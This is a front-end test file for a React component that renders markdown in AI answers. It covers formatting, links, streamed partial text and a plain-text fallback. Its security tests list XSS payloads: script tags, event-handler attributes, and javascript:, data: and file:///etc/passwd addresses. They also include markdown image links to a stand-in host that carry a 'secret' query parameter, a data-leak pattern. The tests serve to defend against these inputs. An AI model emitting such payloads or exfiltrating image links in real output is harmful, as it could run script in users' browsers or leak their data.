import { render, screen } from '@testing-library/react';
import { MemoryRouter } from 'react-router-dom';
import { beforeAll, describe, expect, it, vi } from 'vitest';
import { AnswerText } from './AnswerText';
import { loadMarkdown } from './useMarkdown';

beforeAll(() => loadMarkdown());

const draw = (text: string) =>
  render(
    <MemoryRouter>
      <AnswerText>{text}</AnswerText>
    </MemoryRouter>,
  );

describe('markdown (AI-10)', () => {
  it('shows emphasis, lists, code and tables', () => {
    draw('**bold** and *soft*\n\n- one\n- two\n\n`inline`\n\n```\nblock\n```\n\n| a |\n|---|\n| b |');
    expect(screen.getByText('bold').tagName).toBe('STRONG');
    expect(screen.getAllByRole('listitem').map((item) => item.textContent)).toEqual(['one', 'two']);
    expect(screen.getByText('inline').tagName).toBe('CODE');
    expect(screen.getByText('block').closest('pre')).toBeInTheDocument();
    expect(screen.getByRole('table')).toBeVisible();
  });

  it('keeps its headings below the page title', () => {
    draw('# One\n\n###### Six');
    expect(screen.getByRole('heading', { name: 'One', level: 2 })).toBeVisible();
    expect(screen.getByRole('heading', { name: 'Six', level: 3 })).toBeVisible();
  });
});

describe('what must not happen (AI-11, TR-55)', () => {
  it.each([
    '<script>window.hacked = true</script>',
    '<img src=x onerror="window.hacked = true">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '<svg onload=alert(1)>',
    'a <b onclick="x()">bold</b> move',
  ])('raw HTML is no element: %s', (html) => {
    const { container } = draw(html);
    expect(container.querySelector('script, iframe, img, svg, b, [onclick], [onload], [onerror]')).toBeNull();
    expect(window).not.toHaveProperty('hacked');
  });

  it('no picture is loaded, its description is shown', () => {
    const { container } = draw(
      '![a cat](https://spy.example/x.png?said=secret) ![](//spy.example) ![x][1]\n\n[1]: https://spy.example',
    );
    expect(container.querySelector('img, picture, [src], [srcset]')).toBeNull();
    expect(container).toHaveTextContent('(picture: a cat)');
  });

  it.each([
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    ' javascript:alert(1)',
    'java\tscript:alert(1)',
    '&#106;avascript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'vbscript:x',
    'file:///etc/passwd',
    'blob:https://x/1',
    'tel:123',
    '//spy.example',
    '\\\\spy.example',
    'relative',
    '#top',
  ])('%s is no link', (address) => {
    draw(`[press](<${address}>)`);
    expect(screen.queryByRole('link')).toBeNull();
  });
});

describe('links', () => {
  it.each([
    ['[site](https://example.com/a)', 'https://example.com/a'],
    ['[site](http://example.com)', 'http://example.com/'],
    ['<https://example.com/b>', 'https://example.com/b'],
    ['www.example.com', 'http://www.example.com/'],
    ['[mail](mailto:a@example.com)', 'mailto:a@example.com'],
  ])('%s opens a new tab without a handle on this one', (text, address) => {
    draw(text);
    const link = screen.getByRole('link');
    expect(link).toHaveAttribute('href', address);
    expect(link).toHaveAttribute('target', '_blank');
    expect(link.getAttribute('rel')).toContain('noopener');
    expect(link).toHaveAttribute('title', address);
  });

  it('leads to a page of the portal within the portal', () => {
    draw('see the [help page](/safety)');
    const link = screen.getByRole('link', { name: 'help page' });
    expect(link).toHaveAttribute('href', '/safety');
    expect(link).not.toHaveAttribute('target');
  });
});

it('shows any beginning of an answer without a fault, as it grows', () => {
  const whole =
    '# Hé\n\n**bold [link](https://example.com) <b>** ![p](x)\n\n1. a\n   - b\n\n> q\n\n```js\nx\n```\n\n| a |\n|--|\n| 👻 |[^1]\n\n[^1]: n';
  const { rerender } = draw('');
  for (let end = 0; end <= whole.length; end += 1)
    rerender(
      <MemoryRouter>
        <AnswerText>{whole.slice(0, end)}</AnswerText>
      </MemoryRouter>,
    );
  expect(screen.getByText('👻')).toBeVisible();
});

it('is plain text while the code for markdown is on its way, and when it does not come', async () => {
  vi.resetModules();
  vi.doMock('./Markdown', () => Promise.reject(new Error('chunk missing')));
  const { AnswerText: Fresh } = await import('./AnswerText');
  render(<Fresh>**not yet**</Fresh>);
  expect(screen.getByText('**not yet**')).toBeVisible();
  const { loadMarkdown: load } = await import('./useMarkdown');
  await load();
  expect(screen.getByText('**not yet**')).toBeVisible();
  vi.doUnmock('./Markdown');
});
